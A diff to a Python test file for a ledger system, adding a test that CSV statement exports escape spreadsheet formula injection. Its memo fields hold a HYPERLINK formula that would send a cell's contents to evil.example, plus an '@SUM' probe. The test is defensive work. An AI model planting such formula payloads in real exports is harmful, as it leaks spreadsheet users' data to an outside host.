@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import itertools
 import os
 import subprocess
@@ -26,6 +28,7 @@ from tests.unit.ledger.stories import (
     granted,
     incoming,
     paid,
+    posting,
     raw_incoming,
 )
 
@@ -377,3 +380,42 @@ async def test_migrations_apply_once(ledger_db: LedgerDb) -> None:
     assert uuid.UUID(int=0) not in {
         r["posting_id"] for r in await ledger_db.pool.fetch("SELECT posting_id FROM ledger_entries")
     }
+
+
+async def test_a_statement_cell_that_a_spreadsheet_would_run_is_escaped(
+    ledger_db: LedgerDb,
+) -> None:
+    bait = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    story = [
+        incoming(funded(SUOZHEN), 0),
+        incoming(
+            posting(
+                SUOZHEN,
+                "advance_granted",
+                f"town_reserve_held:{SUOZHEN}",
+                f"town_reserve:{SUOZHEN}",
+                1_000,
+                n=1,
+                memo=bait,
+            ),
+            1,
+        ),
+        incoming(
+            posting(
+                SUOZHEN,
+                "advance_granted",
+                f"town_reserve_held:{SUOZHEN}",
+                f"town_reserve:{SUOZHEN}",
+                1_000,
+                n=2,
+                memo="@SUM(1+1)",
+            ),
+            2,
+        ),
+    ]
+    await store(ledger_db, story)
+    text = await postgres.statement(ledger_db.pool, SUOZHEN, date(2024, 7, 1), date(2024, 7, 1))
+    rows = list(csv.reader(io.StringIO(text)))
+    memos = {r[4] for r in rows[1:]}
+    assert "'" + bait in memos and "'@SUM(1+1)" in memos
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
